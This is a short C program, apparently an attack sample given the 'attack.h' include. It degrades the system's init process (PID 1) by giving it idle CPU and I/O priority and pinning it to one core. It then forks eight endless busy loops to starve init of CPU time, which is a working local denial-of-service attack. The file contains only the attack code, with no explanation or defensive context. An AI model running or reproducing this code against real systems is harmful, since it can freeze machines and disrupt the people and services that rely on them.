#include "attack.h"

int main(void) {
  struct sched_param parameters = {0};
  cpu_set_t one;
  CPU_ZERO(&one);
  CPU_SET(0, &one);
  setpriority(PRIO_PROCESS, 1, 19);
  sched_setscheduler(1, SCHED_IDLE, &parameters);
  sched_setaffinity(1, sizeof one, &one);
  syscall(SYS_ioprio_set, 1, 1, 3 << 13);
  for (int i = 0; i < 8; ++i) {
    if (fork() == 0) break;
  }
  for (;;) __asm__ volatile("");
}
